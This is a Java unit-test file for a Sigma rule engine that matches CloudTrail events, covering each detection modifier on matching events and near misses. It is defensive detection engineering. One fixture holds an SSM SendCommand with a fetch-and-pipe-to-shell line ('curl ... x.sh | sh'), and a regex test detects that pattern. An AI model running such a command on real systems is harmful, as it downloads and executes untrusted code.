package com.cloudtrailanalytics.findings.sigma;

import static com.cloudtrailanalytics.findings.sigma.CloudTrailExamples.CONSOLE_LOGIN_WITH_MFA;
import static com.cloudtrailanalytics.findings.sigma.CloudTrailExamples.FAILED_CONSOLE_LOGIN_WITHOUT_MFA;
import static com.cloudtrailanalytics.findings.sigma.CloudTrailExamples.GET_TRAIL_STATUS;
import static com.cloudtrailanalytics.findings.sigma.CloudTrailExamples.HTTPS_OPENED_TO_A_PRIVATE_RANGE;
import static com.cloudtrailanalytics.findings.sigma.CloudTrailExamples.SSH_OPENED_TO_THE_WORLD;
import static com.cloudtrailanalytics.findings.sigma.CloudTrailExamples.STOP_LOGGING;
import static com.cloudtrailanalytics.findings.sigma.CloudTrailExamples.UPDATE_LOGIN_PROFILE_OF_ANOTHER_USER;
import static com.cloudtrailanalytics.findings.sigma.CloudTrailExamples.UPDATE_OWN_LOGIN_PROFILE;
import static com.cloudtrailanalytics.findings.sigma.CloudTrailExamples.fields;
import static com.cloudtrailanalytics.findings.sigma.TestRules.detection;
import static com.cloudtrailanalytics.findings.sigma.TestRules.selection;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** Each value form and modifier, on a record it must match and on its near miss. */
class SigmaModifiersTest {

  private static final EventFields STOP = fields(STOP_LOGGING);
  private static final EventFields STATUS = fields(GET_TRAIL_STATUS);
  private static final EventFields FAILED_LOGIN = fields(FAILED_CONSOLE_LOGIN_WITHOUT_MFA);
  private static final EventFields MFA_LOGIN = fields(CONSOLE_LOGIN_WITH_MFA);
  private static final EventFields SSH_TO_THE_WORLD = fields(SSH_OPENED_TO_THE_WORLD);
  private static final EventFields HTTPS_PRIVATE = fields(HTTPS_OPENED_TO_A_PRIVATE_RANGE);
  private static final EventFields OTHERS_PASSWORD = fields(UPDATE_LOGIN_PROFILE_OF_ANOTHER_USER);
  private static final EventFields OWN_PASSWORD = fields(UPDATE_OWN_LOGIN_PROFILE);

  /** A script sent to instances, over several lines. */
  private static final EventFields SEND_COMMAND =
      fields(
          """
          {"eventTime": "2024-03-01T10:06:00Z", "eventSource": "ssm.amazonaws.com",
           "eventName": "SendCommand",
           "requestParameters": {"documentName": "AWS-RunShellScript",
             "parameters": {"commands": ["#!/bin/bash\\ncurl -s http://203.0.113.9/x.sh | sh"]},
             "instanceIds": ["i-0webserver0000001"], "outputS3BucketName": null}}
          """);

  @Test
  void aPlainValueEqualsTheFieldInAnyCase() {
    SigmaRule rule =
        detection(
            """
            selection:
              eventSource: CloudTrail.amazonaws.com
              eventName: stoplogging
            condition: selection
            """);

    assertThat(rule.matches(STOP)).isTrue();
    assertThat(rule.matches(STATUS)).isFalse();
  }

  @Test
  void aPlainValueMustEqualTheWholeField() {
    assertThat(
            detection(
                    """
                    selection:
                      eventName: StopLog
                    condition: selection
                    """)
                .matches(STOP))
        .isFalse();
  }

  @Test
  void aListOfValuesMatchesAnyOfThem() {
    SigmaRule rule =
        detection(
            """
            selection:
              eventName:
                - DeleteTrail
                - StopLogging
                - UpdateTrail
            condition: selection
            """);

    assertThat(rule.matches(STOP)).isTrue();
    assertThat(rule.matches(STATUS)).isFalse();
  }

  @Test
  void starAndQuestionMarkAreWildcardsInPlainValues() {
    SigmaRule rule =
        detection(
            """
            selection:
              eventSource: 'cloud*.amazonaws.com'
              eventName: 'Stop?ogging'
            condition: selection
            """);

    assertThat(rule.matches(STOP)).isTrue();
    assertThat(rule.matches(STATUS)).isFalse();
    assertThat(
            detection(
                    """
                    selection:
                      eventName: 'Stop?Logging'
                    condition: selection
                    """)
                .matches(STOP))
        .as("? stands for exactly one character")
        .isFalse();
  }

  @Test
  void containsFindsTheValueAnywhereInTheField() {
    SigmaRule rule =
        detection(
            """
            selection:
              eventName: AuthorizeSecurityGroupIngress
              requestParameters.ipPermissions.items.ipRanges.items.cidrIp|contains: '/0'
            condition: selection
            """);

    assertThat(rule.matches(SSH_TO_THE_WORLD)).isTrue();
    assertThat(rule.matches(HTTPS_PRIVATE)).isFalse();
  }

  @Test
  void containsKeepsWildcardsInsideTheValue() {
    SigmaRule rule =
        detection(
            """
            selection:
              userAgent|contains: 'aws-cli/2.*Linux'
            condition: selection
            """);

    assertThat(rule.matches(SSH_TO_THE_WORLD)).isTrue();
    assertThat(rule.matches(OTHERS_PASSWORD)).isFalse();
  }

  @Test
  void startswithAndEndswithAnchorTheValue() {
    SigmaRule admin =
        detection(
            """
            selection:
              userIdentity.arn|startswith: 'arn:aws:sts::111122223333:assumed-role/ADMIN'
            condition: selection
            """);
    SigmaRule trail =
        detection(
            """
            selection:
              requestParameters.name|endswith: ':trail/management-events'
            condition: selection
            """);
    SigmaRule notAnEnd =
        detection(
            """
            selection:
              requestParameters.name|endswith: ':trail/management'
            condition: selection
            """);

    assertThat(admin.matches(STOP)).isTrue();
    assertThat(admin.matches(SSH_TO_THE_WORLD)).isFalse();
    assertThat(trail.matches(STOP)).isTrue();
    assertThat(notAnEnd.matches(STOP)).isFalse();
  }

  @Test
  void reIsACaseSensitiveRegularExpressionFoundAnywhere() {
    SigmaRule lower =
        detection(
            """
            selection:
              userIdentity.arn|re: ':assumed-role/[a-z]+-role/'
            condition: selection
            """);
    SigmaRule upper =
        detection(
            """
            selection:
              userIdentity.arn|re: ':Assumed-Role/[a-z]+-role/'
            condition: selection
            """);

    assertThat(lower.matches(STOP)).isTrue();
    assertThat(lower.matches(OTHERS_PASSWORD)).isFalse();
    assertThat(upper.matches(STOP)).isFalse();
  }

  @Test
  void reTakesTheFlagsIMAndS() {
    assertThat(
            detection(
                    """
                    selection:
                      userIdentity.arn|re|i: ':Assumed-Role/[a-z]+-role/'
                    condition: selection
                    """)
                .matches(STOP))
        .isTrue();

    String lastLine = "requestParameters.parameters.commands|re%s: '^curl .*\\| sh$'";
    assertThat(selection(lastLine.formatted("|m")).matches(SEND_COMMAND)).isTrue();
    assertThat(selection(lastLine.formatted("")).matches(SEND_COMMAND)).isFalse();

    String acrossLines = "requestParameters.parameters.commands|re%s: 'bash.curl'";
    assertThat(selection(acrossLines.formatted("|s")).matches(SEND_COMMAND)).isTrue();
    assertThat(selection(acrossLines.formatted("")).matches(SEND_COMMAND)).isFalse();
  }

  @Test
  void allRequiresEveryValueOfTheList() {
    SigmaRule linuxCli =
        detection(
            """
            selection:
              userAgent|contains|all:
                - aws-cli
                - linux
            condition: selection
            """);

    assertThat(linuxCli.matches(SSH_TO_THE_WORLD)).isTrue();
    assertThat(linuxCli.matches(OTHERS_PASSWORD)).as("aws-cli, but not on Linux").isFalse();
  }

  @Test
  void allMayFindEachValueInADifferentElementOfAnArray() {
    SigmaRule rule =
        detection(
            """
            selection:
              requestParameters.ipPermissions.items.ipRanges.items.cidrIp|all:
                - 0.0.0.0/0
                - 10.0.0.0/8
            condition: selection
            """);

    assertThat(rule.matches(SSH_TO_THE_WORLD)).isTrue();
    assertThat(rule.matches(HTTPS_PRIVATE)).isFalse();
  }

  @Test
  void fieldrefComparesTwoFieldsOfTheRecord() {
    SigmaRule ownPassword =
        detection(
            """
            selection:
              eventName: UpdateLoginProfile
              userIdentity.userName|fieldref: requestParameters.userName
            condition: selection
            """);
    SigmaRule ownPasswordCased =
        detection(
            """
            selection:
              userIdentity.userName|fieldref|cased: requestParameters.userName
            condition: selection
            """);

    assertThat(ownPassword.matches(OWN_PASSWORD)).as("Alice and alice, any case").isTrue();
    assertThat(ownPassword.matches(OTHERS_PASSWORD)).isFalse();
    assertThat(ownPasswordCased.matches(OWN_PASSWORD)).isFalse();
  }

  @Test
  void existsTellsWhetherTheRecordHasTheFieldEvenWhenNull() {
    SigmaRule failed =
        detection(
            """
            selection:
              errorCode|exists: true
            condition: selection
            """);
    SigmaRule succeeded =
        detection(
            """
            selection:
              errorCode|exists: false
            condition: selection
            """);
    SigmaRule outputBucket =
        detection(
            """
            selection:
              requestParameters.outputS3BucketName|exists: true
            condition: selection
            """);

    assertThat(failed.matches(OTHERS_PASSWORD)).isTrue();
    assertThat(failed.matches(OWN_PASSWORD)).isFalse();
    assertThat(succeeded.matches(OWN_PASSWORD)).isTrue();
    assertThat(succeeded.matches(OTHERS_PASSWORD)).isFalse();
    assertThat(outputBucket.matches(SEND_COMMAND)).as("present, though null").isTrue();
    assertThat(outputBucket.matches(STOP)).isFalse();
  }

  @Test
  void nullMatchesAnAbsentOrNullField() {
    SigmaRule succeeded =
        detection(
            """
            selection:
              eventName: UpdateLoginProfile
              errorCode: null
            condition: selection
            """);
    SigmaRule noOutputBucket =
        detection(
            """
            selection:
              requestParameters.outputS3BucketName: null
            condition: selection
            """);

    assertThat(succeeded.matches(OWN_PASSWORD)).isTrue();
    assertThat(succeeded.matches(OTHERS_PASSWORD)).isFalse();
    assertThat(noOutputBucket.matches(SEND_COMMAND)).as("null in the record").isTrue();
    assertThat(noOutputBucket.matches(OTHERS_PASSWORD)).as("absent").isTrue();
  }

  @Test
  void anEmptyValueMatchesAnEmptyFieldOnly() {
    SigmaRule noAccessKey =
        detection(
            """
            selection:
              userIdentity.accessKeyId: ''
            condition: selection
            """);

    assertThat(noAccessKey.matches(FAILED_LOGIN)).isTrue();
    assertThat(noAccessKey.matches(STOP)).as("has an access key").isFalse();
    assertThat(noAccessKey.matches(fields("{\"eventTime\":\"2024-03-01T10:00:00Z\"}")))
        .as("has no identity at all")
        .isFalse();
  }

  @Test
  void numbersAndBooleansCompareAsTheirText() {
    SigmaRule writes =
        detection(
            """
            selection:
              eventSource: cloudtrail.amazonaws.com
              readOnly: false
            condition: selection
            """);
    SigmaRule ssh =
        detection(
            """
            selection:
              requestParameters.ipPermissions.items.fromPort: 22
              responseElements._return: true
            condition: selection
            """);

    assertThat(writes.matches(STOP)).isTrue();
    assertThat(writes.matches(STATUS)).isFalse();
    assertThat(ssh.matches(SSH_TO_THE_WORLD)).isTrue();
    assertThat(ssh.matches(HTTPS_PRIVATE)).isFalse();
  }

  @Test
  void anUnquotedNoIsTheTextNoAsTheRuleWroteIt() {
    SigmaRule withoutMfa =
        detection(
            """
            selection:
              eventName: ConsoleLogin
              additionalEventData.MFAUsed: No
              responseElements.ConsoleLogin: Failure
            condition: selection
            """);

    assertThat(withoutMfa.matches(FAILED_LOGIN)).isTrue();
    assertThat(withoutMfa.matches(MFA_LOGIN)).isFalse();
  }

  @Test
  void casedComparesCaseSensitively() {
    SigmaRule cased =
        detection(
            """
            selection:
              eventName|cased: stoplogging
            condition: selection
            """);
    SigmaRule casedContains =
        detection(
            """
            selection:
              eventName|contains|cased: Logging
            condition: selection
            """);

    assertThat(cased.matches(STOP)).isFalse();
    assertThat(casedContains.matches(STOP)).isTrue();
    assertThat(casedContains.matches(fields(STOP_LOGGING.replace("StopLogging", "Stoplogging"))))
        .isFalse();
  }

  @Test
  void escapedWildcardsArePlainCharacters() {
    EventFields starPolicy =
        fields(
            """
            {"eventTime": "2024-03-01T10:00:00Z", "eventName": "PutUserPolicy",
             "requestParameters": {"userName": "Bob", "policyName": "s3:*"}}
            """);
    SigmaRule literalStar =
        detection(
            """
            selection:
              requestParameters.policyName: 's3:\\*'
            condition: selection
            """);

    assertThat(literalStar.matches(starPolicy)).isTrue();
    assertThat(
            literalStar.matches(
                fields(
                    """
                    {"eventTime": "2024-03-01T10:00:00Z",
                     "requestParameters": {"policyName": "s3:GetObject"}}
                    """)))
        .isFalse();
  }

  @Test
  void keywordsAreFoundInAnyValueOfTheRecord() {
    SigmaRule keywords =
        detection(
            """
            keywords:
              - 'trail/management-*'
              - 'never-seen'
            condition: keywords
            """);
    SigmaRule allKeywords =
        detection(
            """
            keywords:
              '|all':
                - 'management-events'
                - 'mallory'
            condition: keywords
            """);

    assertThat(keywords.matches(STOP)).isTrue();
    assertThat(keywords.matches(SSH_TO_THE_WORLD)).isFalse();
    assertThat(allKeywords.matches(STOP)).isTrue();
    assertThat(allKeywords.matches(fields(STOP_LOGGING.replace("mallory", "deploy")))).isFalse();
  }
}
